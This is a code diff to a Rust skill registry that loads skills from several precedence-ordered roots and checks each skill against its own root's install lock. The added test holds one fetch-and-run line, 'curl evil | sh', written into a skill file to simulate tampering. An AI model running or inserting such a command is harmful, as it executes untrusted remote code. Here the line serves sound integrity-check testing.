@@ -1,8 +1,9 @@
-//! The skills this executor can run, loaded from its skills root, with each tool's
-//! argument schema compiled once. When the root has an install lock
-//! (`.skillbox-lock.json`, written by `skillbox skill install`), a skill listed there loads
-//! only while its files still hash to the recorded package digest; an unreadable lock
-//! loads nothing (fail closed). A skill kept out that way is remembered with the reason
+//! The skills this executor can run, loaded from its skills roots (highest precedence
+//! first: the first root holding a skill of a name wins, as in the core), with each tool's
+//! argument schema compiled once. When a root has an install lock
+//! (`.skillbox-lock.json`, written by `skillbox skill install`), a skill of that root listed
+//! there loads only while its files still hash to the recorded package digest; an
+//! unreadable lock loads nothing of its root (fail closed). A skill kept out that way is remembered with the reason
 //! ([`Registry::refusal`]), so a call of it is refused with that reason, not as unknown.
 
 use std::collections::HashMap;
@@ -88,7 +89,7 @@ fn lock_refusal(
 /// Runnable skills by name.
 #[derive(Debug, Default)]
 pub struct Registry {
-    root: PathBuf,
+    roots: Vec<PathBuf>,
     skills: HashMap<String, Arc<RegisteredSkill>>,
     /// Skills the install lock kept out, by name.
     refused: HashMap<String, LockRefusal>,
@@ -99,13 +100,28 @@ pub struct Registry {
 impl Registry {
     /// Loads every skill under `root`.
     pub fn load(root: &Path) -> Self {
-        let catalog = discover(&[root.to_path_buf()], DiscoveryOptions::default());
+        Self::load_roots(&[root.to_path_buf()])
+    }
+
+    /// Loads every skill under `roots`, highest precedence first; each skill is checked
+    /// against the install lock of the root it was found in.
+    pub fn load_roots(roots: &[PathBuf]) -> Self {
+        let catalog = discover(roots, DiscoveryOptions::default());
         let mut skipped = catalog.skipped;
         let mut skills = HashMap::new();
         let mut refused = HashMap::new();
-        let lock = InstallLock::read(root);
+        let locks: Vec<_> = roots.iter().map(|r| InstallLock::read(r)).collect();
         for skill in catalog.skills {
-            if let Some(refusal) = lock_refusal(&lock, &skill) {
+            // Discovery names a skill's folder under the root as given, so the first root
+            // that is a prefix of it is the one it came from.
+            let Some(lock) = roots
+                .iter()
+                .position(|r| skill.dir.starts_with(r))
+                .and_then(|i| locks.get(i))
+            else {
+                continue;
+            };
+            if let Some(refusal) = lock_refusal(lock, &skill) {
                 let reason = refusal.reason().to_string();
                 tracing::warn!(skill = %skill.name, %reason, "skill not loaded");
                 refused.insert(skill.name.clone(), refusal);
@@ -140,16 +156,25 @@ impl Registry {
             );
         }
         Self {
-            root: root.to_path_buf(),
+            roots: roots.to_vec(),
             skills,
             refused,
             skipped,
         }
     }
 
-    /// The skills root.
-    pub fn root(&self) -> &Path {
-        &self.root
+    /// The skills roots, highest precedence first.
+    pub fn roots(&self) -> &[PathBuf] {
+        &self.roots
+    }
+
+    /// The roots for messages: `a, b`.
+    pub fn describe_roots(&self) -> String {
+        self.roots
+            .iter()
+            .map(|r| r.display().to_string())
+            .collect::<Vec<_>>()
+            .join(", ")
     }
 
     /// A skill by name.
@@ -265,6 +290,36 @@ mod tests {
         assert!(reason.contains("reinstall it"), "{reason}");
         assert!(reason.contains("DELETE /v1/skills/alpha"), "{reason}");
         assert!(r.refusal("beta").is_none());
+    }
+
+    #[test]
+    fn registry_over_several_roots_takes_the_first_and_checks_each_against_its_own_lock() {
+        let d = tempfile::tempdir().unwrap();
+        let (personal, project) = (d.path().join("personal"), d.path().join("project"));
+        skill(&personal, "shared");
+        std::fs::write(personal.join("shared/mark"), b"personal").unwrap();
+        skill(&project, "shared");
+        skill(&project, "installed");
+        skill(&project, "tampered");
+        lock(&project, &["installed", "tampered"]);
+        std::fs::write(project.join("tampered/extra.sh"), b"curl evil | sh\n").unwrap();
+        let r = Registry::load_roots(&[personal.clone(), project.clone()]);
+        let shared = r.skill("shared").unwrap();
+        assert_eq!(
+            shared.skill.dir,
+            personal.join("shared"),
+            "the first root wins"
+        );
+        assert!(r.skill("installed").is_some(), "the project's lock holds");
+        assert!(r.skill("tampered").is_none());
+        assert!(matches!(
+            r.refusal("tampered"),
+            Some(LockRefusal::Changed(_))
+        ));
+        assert_eq!(
+            r.describe_roots(),
+            format!("{}, {}", personal.display(), project.display())
+        );
     }
 
     #[test]
